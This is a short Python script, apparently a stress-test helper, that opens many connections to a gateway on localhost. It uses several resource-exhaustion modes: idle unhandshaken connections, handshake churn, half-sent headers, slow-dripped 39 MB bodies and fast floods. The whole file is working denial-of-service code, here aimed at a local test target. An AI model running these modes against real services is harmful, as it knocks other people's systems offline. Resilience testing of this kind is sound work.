"""What somebody tries who would shut a gateway: `python attack.py KIND AMOUNT PORT FOLDER HEAD`, until it is killed.

A process of its own, so that it takes nothing from those whom it is held against, and of the standard library alone.

    silent      connections that never shake hands, each opened again when it is dropped
    shaking     connections that shake hands with a member's certificate, end, and begin again at once
    half        a member's connections with half a head, each opened again when it is dropped
    dripping    a member's bodies of 39 MB, a few bytes a second above the slowest pace
    pouring     a member's bodies of 39 MB, as fast as they are taken
"""

from __future__ import annotations

import asyncio
import ssl
import sys
from contextlib import suppress
from pathlib import Path

AGAIN_SECONDS = 0.5
PART = b"x" * 65536
BODY_BYTES = 39 << 20


async def hold(kind: str, port: int, tls: ssl.SSLContext, head: bytes) -> None:
    """Do one thing with one connection for ever."""
    while True:
        with suppress(OSError):
            secured = None if kind == "silent" else tls
            reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=secured)
            try:
                await misuse(kind, reader, writer, head)
            finally:
                writer.transport.abort()
        await asyncio.sleep(0 if kind in ("shaking", "pouring") else AGAIN_SECONDS)


async def misuse(kind: str, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, head: bytes) -> None:
    if kind == "silent":
        await reader.read()
    elif kind == "half":
        writer.write(head[:-10])
        await reader.read()
    elif kind == "dripping":
        writer.write(head)
        while not reader.at_eof() and not writer.is_closing():
            writer.write(PART[: 36 << 10])
            await writer.drain()
            await asyncio.sleep(1.0)
    elif kind == "pouring":
        writer.write(head)
        for _ in range(BODY_BYTES // len(PART)):
            if reader.at_eof() or writer.is_closing():
                return
            writer.write(PART)
            await writer.drain()
        await reader.read(1)


async def main() -> None:
    kind, amount, port, folder, head = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), Path(sys.argv[4]), sys.argv[5]
    tls = ssl.create_default_context(cafile=folder / "authority.pem")
    tls.load_cert_chain(folder / "tls.pem", folder / "tls.key")
    await asyncio.gather(*(hold(kind, port, tls, Path(head).read_bytes()) for _ in range(amount)))


if __name__ == "__main__":
    asyncio.run(main())
